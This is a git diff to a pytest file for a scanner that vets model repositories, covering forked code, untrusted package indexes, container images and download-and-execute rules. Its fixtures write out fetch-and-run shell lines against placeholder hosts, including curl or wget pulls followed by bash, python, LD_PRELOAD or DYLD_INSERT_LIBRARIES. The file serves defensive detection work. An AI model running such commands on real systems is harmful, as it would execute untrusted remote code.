@@ -6,6 +6,7 @@ Cards and scripts are written into tmp_path as text; every command in them is in
 from __future__ import annotations
 
 import json
+import time
 from pathlib import Path
 
 import pytest
@@ -18,6 +19,7 @@ from app.core.pipeline import vet
 from app.core.ports import SourceError
 from app.core.report import Report
 from app.core.scanners.links_scanner import LinksScanner
+from app.core.scanners.text_rules import shell_rules as sh
 from app.core.scanners.text_rules.text_lines import read_text, read_whole
 from app.core.scanners.text_rules.upstreams import load_upstreams
 from app.sources.local import LocalSource
@@ -282,7 +284,8 @@ def test_upstream_data_answers() -> None:
     [("README.md", "text", True), ("docs/INSTALL.rst", "text", True), ("Dockerfile.gpu", "text", True),
      ("requirements-dev.txt", "text", True), ("run.ipynb", "text", True), ("setup.py", "text", True),
      ("vocab.txt", "text", False), ("model.safetensors", "safetensors", False), ("README.md", "elf", False),
-     ("modeling_x.py", "text", True), ("tokenizer.json", "text", False)],
+     ("modeling_x.py", "text", True), ("tokenizer.json", "text", False), ("pip.conf", "text", True),
+     (".condarc", "text", True), ("pyproject.toml", "text", True)],
 )
 def test_handles(path: str, fmt: str, handled: bool) -> None:
     assert LinksScanner().handles(ManifestFile(path, 10, format=fmt)) is handled
@@ -291,3 +294,70 @@ def test_handles(path: str, fmt: str, handled: bool) -> None:
 def test_rules_list_every_emitted_rule(tmp_path: Path) -> None:
     report = _vet(tmp_path, {"README.md": CANADA_QUANT_CARD + NVIDIA_CARD + "https://blog.example.invalid\n"})
     assert {f.rule for f in report.findings} <= {r.id for r in LinksScanner.rules}
+
+
+def test_findings_name_their_source_for_the_policy(tmp_path: Path) -> None:
+    card = ("```\n"
+            "pip install git+ssh://git@github.com/NVIDIA/vllm.git@nvfp4\n"
+            "pip install -i https://pypi.example.invalid/simple/ x\n"
+            "conda install -c canada-quant/label/dev vllm\n"
+            "docker run --gpus all ghcr.io/Someone/vllm:dsv4\n"
+            "docker run canadaquant/vllm@sha256:" + "0" * 64 + "\n"
+            "```\n")
+    sources = {(f.rule, f.source) for f in _vet(tmp_path, {"README.md": card}).findings}
+    assert sources == {
+        ("forked-code", "github.com/NVIDIA/vllm"),
+        ("untrusted-package-index", "pypi.example.invalid/simple"),
+        ("untrusted-package-index", "anaconda.org/canada-quant/label/dev"),
+        ("untrusted-container-image", "ghcr.io/someone/vllm"),
+        ("untrusted-container-image", "docker.io/canadaquant/vllm"),
+    }
+
+
+def test_a_repo_named_like_a_runtime_is_judged_by_its_owner(tmp_path: Path) -> None:
+    card = ("https://github.com/NVIDIA/vllm\nhttps://github.com/NVIDIA/TensorRT-LLM\n"
+            "https://github.com/microsoft/DeepSpeed\nhttps://github.com/vllm-project/vllm\n")
+    found = {(f.rule, f.source) for f in _vet(tmp_path, {"README.md": card}).findings}
+    assert found == {("forked-code", "github.com/NVIDIA/vllm"), ("upstream-link", None)}
+
+
+def test_variables_carry_urls_into_later_lines(tmp_path: Path) -> None:
+    script = ('BASE="https://example.invalid/dl"\n'
+              "curl -fsSL ${BASE}/tool.sh -o t.sh\n"
+              "bash t.sh\n"
+              "wget ${MIRROR:-https://example.invalid/m}/x.py && python x.py\n")
+    dae = _with(_vet(tmp_path, {"install.sh": script}), "download-and-execute")
+    assert sorted((f.evidence or "").split(": ")[0] for f in dae) == ["install.sh:3", "install.sh:4"]
+
+
+def test_shortened_links_in_prose_are_links_not_installs(tmp_path: Path) -> None:
+    card = "News: https://bit.ly/abc\n\n```\npip install https://bit.ly/abc\n```\n"
+    found = {(f.rule, (f.evidence or "").split(": ")[0]) for f in _vet(tmp_path, {"README.md": card}).findings}
+    assert found == {("external-link", "README.md:1"), ("redirect-url", "README.md:4")}
+
+
+@pytest.mark.parametrize("command", [
+    "python -c \"import ctypes; ctypes.CDLL('./libk.so')\"",
+    "env LD_PRELOAD=/opt/libk.so:/usr/lib/libc.so.6 vllm serve",
+    "DYLD_INSERT_LIBRARIES=libk.so ./serve",
+])
+def test_a_fetched_library_loaded_is_run(tmp_path: Path, command: str) -> None:
+    script = f"curl -L https://example.invalid/libk.so -o /opt/libk.so\n{command}\n"
+    (finding,) = _with(_vet(tmp_path, {"run.sh": script}), "download-and-execute")
+    assert finding.evidence and finding.evidence.startswith("run.sh:2:")
+
+
+def test_a_variable_set_earlier_on_the_same_line_is_substituted(tmp_path: Path) -> None:
+    script = "H=example.invalid; wget https://$H/dl/libk.so -O /tmp/libk.so && LD_PRELOAD=/tmp/libk.so vllm\n"
+    (finding,) = _with(_vet(tmp_path, {"run.sh": script}), "download-and-execute")
+    assert "https://example.invalid/dl/libk.so" in finding.message
+
+
+def test_substituted_values_do_not_multiply_the_line(tmp_path: Path) -> None:
+    # Uncapped, this line grows to 16 million characters and the command rules take ~25 s on it.
+    script = "A=" + "x" * 2000 + "\n" + "$A" * 8000 + "\n"
+    started = time.monotonic()
+    report = _vet(tmp_path, {"run.sh": script})
+    assert time.monotonic() - started < 10
+    assert report.files[0].scanned and not report.findings
+    assert len(sh.Variables().resolve("A=" + "x" * 2000 + ";" + "$A" * 8000)) < 40_000
